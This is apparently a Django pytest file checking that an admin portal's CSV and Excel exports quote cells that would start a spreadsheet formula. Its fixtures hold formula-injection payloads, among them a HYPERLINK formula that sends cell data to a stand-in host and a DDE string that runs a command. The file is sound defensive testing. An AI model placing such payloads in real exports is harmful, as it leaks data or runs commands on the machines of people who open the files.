"""Sheets of the admin: what strangers wrote stays text in every one of them."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from catalogue.courses.models import Course
from catalogue.providers.models import Organisation
from catalogue.vacancies.models import Vacancy
from portal.accounts.groups import ADMINISTRATORS
from portal.core.spreadsheets import FORMULA_STARTS, safe_cell
from tests.factories import CourseFactory, OrganisationFactory, VacancyFactory
from tests.staff import signed_in

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
LISTS = {
    "vacancies": "vacancies:index",
    "courses": "courses:index",
    "providers": Organisation.snippet_viewset.get_url_name("list"),
}


def sheet(name: str, kind: str) -> bytes:
    response = signed_in(ADMINISTRATORS).get(reverse(LISTS[name]), {"export": kind})
    return b"".join(response.streaming_content)


@pytest.fixture(autouse=True)
def hostile_rows() -> None:
    provider = OrganisationFactory(name=FORMULA, website="@SUM(1)", phone="+44 1922 000000")
    CourseFactory(provider=provider, title="-2+3+cmd|' /C calc'!A0")
    VacancyFactory(title=FORMULA, employer_name="\t=1+1", reference="=2")


@pytest.mark.parametrize("name", LISTS)
def test_no_cell_of_a_sheet_is_a_formula(name: str) -> None:
    rows = list(csv.reader(io.StringIO(sheet(name, "csv").decode())))

    assert len(rows) == 2
    assert any(cell.startswith(("'=", "'-")) for cell in rows[1])
    assert not [cell for cell in rows[1] if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("name", LISTS)
def test_a_workbook_has_the_same_cells(name: str) -> None:
    sheet_of = load_workbook(io.BytesIO(sheet(name, "xlsx"))).active
    [_headings, row] = sheet_of.iter_rows()

    assert "f" not in {cell.data_type for cell in row}
    assert not [c for c in row if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Welding", "Welding"),
        ("Level 2 - evening", "Level 2 - evening"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        (-3, -3),
        ("", ""),
    ],
)
def test_only_what_starts_a_formula_is_quoted(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_the_rows_themselves_stay_as_they_are() -> None:
    sheet("vacancies", "csv")

    assert Vacancy.objects.get().title == FORMULA
    assert Course.objects.get().provider.name == FORMULA
